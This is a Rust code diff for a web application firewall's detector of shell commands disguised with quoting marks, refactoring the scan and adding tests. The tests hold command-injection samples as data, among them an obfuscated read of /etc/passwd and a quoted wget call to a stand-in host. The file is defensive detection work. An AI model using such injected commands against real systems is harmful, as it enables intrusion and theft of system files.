@@ -296,50 +296,98 @@ const FILE_NAMES: u16 = crate::waf::fields::FieldKind::FileName as u16;
 /// shell obfuscation, never prose, so a word that becomes a command once the quoting
 /// is removed is flagged even without a separator. `I'd` (one mark, two letters) is prose.
 pub(super) fn obfuscated_command(s: &str) -> bool {
-    static CMD: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
-        regex::Regex::new(concat!(
-            r"^(?:[\w.-]*/)?(?:",
-            strong_cmds!(),
-            "|",
-            weak_cmds!(),
-            r")$"
-        ))
-        .ok()
-    });
-    let Some(cmd) = CMD.as_ref() else {
+    let Some(cmd) = COMMAND.as_ref() else {
         return false;
     };
-    if !s.contains(['\'', '"', '\\', '^']) {
+    let b = s.as_bytes();
+    if !b.iter().any(|&c| is_mark(c)) {
         return false;
     }
-    s.split(|c: char| {
-        c.is_whitespace() || matches!(c, ';' | '|' | '&' | '`' | '(' | ')' | '$' | '{' | '}' | ',')
-    })
-    .filter(|w| w.len() >= 3 && w.len() <= 64)
-    .any(|w| {
-        // Most words have no mark at all: done before trimming.
-        if !w.bytes().any(|c| matches!(c, b'\'' | b'"' | b'\\' | b'^')) {
-            return false;
+    if !s.is_ascii() {
+        return any_word_hides_command(cmd, s);
+    }
+    // ASCII (nearly every value): only a word with a mark can hide a command, so
+    // each mark is found and its word read, rather than splitting the whole value.
+    let mut from = 0;
+    while let Some(at) = b[from..].iter().position(|&c| is_mark(c)) {
+        let at = from + at;
+        let start = b[..at]
+            .iter()
+            .rposition(|&c| is_separator(char::from(c)))
+            .map_or(0, |p| p + 1);
+        let end = b[at..]
+            .iter()
+            .position(|&c| is_separator(char::from(c)))
+            .map_or(b.len(), |p| at + p);
+        if hides_command(cmd, &s[start..end]) {
+            return true;
         }
-        let inner = w.trim_matches(|c| matches!(c, '\'' | '"'));
-        let inner_marks = inner
-            .bytes()
-            .filter(|c| matches!(c, b'\'' | b'"' | b'\\' | b'^'))
-            .count();
-        if inner_marks == 0 {
-            return false;
+        from = end;
+    }
+    false
+}
+
+/// A whole word that is a command (`obfuscated_command`, once the quoting is out).
+static COMMAND: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
+    regex::Regex::new(concat!(
+        r"^(?:[\w.-]*/)?(?:",
+        strong_cmds!(),
+        "|",
+        weak_cmds!(),
+        r")$"
+    ))
+    .ok()
+});
+
+/// `obfuscated_command` word by word: every word of the value is split out.
+fn any_word_hides_command(cmd: &regex::Regex, s: &str) -> bool {
+    s.split(is_separator).any(|w| hides_command(cmd, w))
+}
+
+/// The shell quoting marks `obfuscated_command` looks for.
+fn is_mark(c: u8) -> bool {
+    matches!(c, b'\'' | b'"' | b'\\' | b'^')
+}
+
+/// Where a shell word ends.
+fn is_separator(c: char) -> bool {
+    c.is_whitespace() || matches!(c, ';' | '|' | '&' | '`' | '(' | ')' | '$' | '{' | '}' | ',')
+}
+
+/// One word of `obfuscated_command`: quoting inside it, and a command once the
+/// quoting is removed.
+fn hides_command(cmd: &regex::Regex, w: &str) -> bool {
+    // Most words have no mark at all: done before trimming.
+    if w.len() < 3 || w.len() > 64 || !w.bytes().any(is_mark) {
+        return false;
+    }
+    let inner = w.trim_matches(|c| matches!(c, '\'' | '"'));
+    let inner_marks = inner.bytes().filter(|&c| is_mark(c)).count();
+    if inner_marks == 0 {
+        return false;
+    }
+    let matches = |cleaned: &str| (cleaned.len() >= 3 || inner_marks >= 2) && cmd.is_match(cleaned);
+    if inner.is_ascii() {
+        // At most 64 bytes: cleaned on the stack, not in a `String`.
+        let mut buf = [0u8; 64];
+        let mut len = 0;
+        for (d, c) in buf.iter_mut().zip(inner.bytes().filter(|&c| !is_mark(c))) {
+            *d = c.to_ascii_lowercase();
+            len += 1;
         }
-        let cleaned: String = inner
-            .chars()
-            .filter(|c| !matches!(c, '\'' | '"' | '\\' | '^'))
-            .flat_map(char::to_lowercase)
-            .collect();
-        (cleaned.len() >= 3 || inner_marks >= 2) && cmd.is_match(&cleaned)
-    })
+        return std::str::from_utf8(&buf[..len]).is_ok_and(matches);
+    }
+    let cleaned: String = inner
+        .chars()
+        .filter(|c| !matches!(c, '\'' | '"' | '\\' | '^'))
+        .flat_map(char::to_lowercase)
+        .collect();
+    matches(&cleaned)
 }
 
 #[cfg(test)]
 mod tests {
+    use super::{COMMAND, any_word_hides_command, obfuscated_command};
     use crate::waf::rules::fires;
 
     #[test]
@@ -350,6 +398,73 @@ mod tests {
         assert!(fires(932100, "|ls > out.txt"));
         assert!(!fires(932100, "a;id>"));
         assert!(!fires(932100, "x; w<3"));
+    }
+
+    #[test]
+    fn quoting_inside_a_command_word_fires_but_apostrophes_in_prose_do_not() {
+        for a in [
+            "w'h'o'am'i",
+            "wh\\oami",
+            "who^ami",
+            "; c'a't /etc/passwd",
+            "x|bin/w\"ge\"t http://e.example/x",
+            "caf\u{e9} && c\"a\"t x",
+        ] {
+            assert!(obfuscated_command(a), "missed {a}");
+        }
+        for b in [
+            "Patrick O'Brien",
+            "Don't ring the bell, it's late",
+            "I'd say \"cat\" is a pet",
+            "'cat'",
+            "caf\u{e9} d'Orsay",
+            "",
+        ] {
+            assert!(!obfuscated_command(b), "flagged {b}");
+        }
+    }
+
+    #[test]
+    fn reading_only_the_words_with_marks_agrees_with_reading_every_word() {
+        let Some(cmd) = COMMAND.as_ref() else {
+            panic!("command regex")
+        };
+        let words = [
+            "c'a't",
+            "'cat'",
+            "O'Brien",
+            "wh\\oami",
+            "who^ami",
+            "w\"ge\"t",
+            "x",
+            "''",
+            "a'b",
+            "p'i'n'g",
+            "/bin/c'a't",
+            "n''c",
+            "\"",
+            "sl\\eep",
+        ];
+        let separators = [
+            " ", ";", "|", "\t", "\u{b}", "(", ")", "$", "{", "}", ",", "&", "`", "-",
+        ];
+        for a in words {
+            for sep in separators {
+                for c in words {
+                    for s in [
+                        format!("{a}{sep}{c}"),
+                        format!("{sep}{a}{sep}{sep}{c}{sep}"),
+                        format!("{a}{c}{sep}"),
+                    ] {
+                        assert_eq!(
+                            obfuscated_command(&s),
+                            any_word_hides_command(cmd, &s),
+                            "{s:?}"
+                        );
+                    }
+                }
+            }
+        }
     }
 
     #[test]
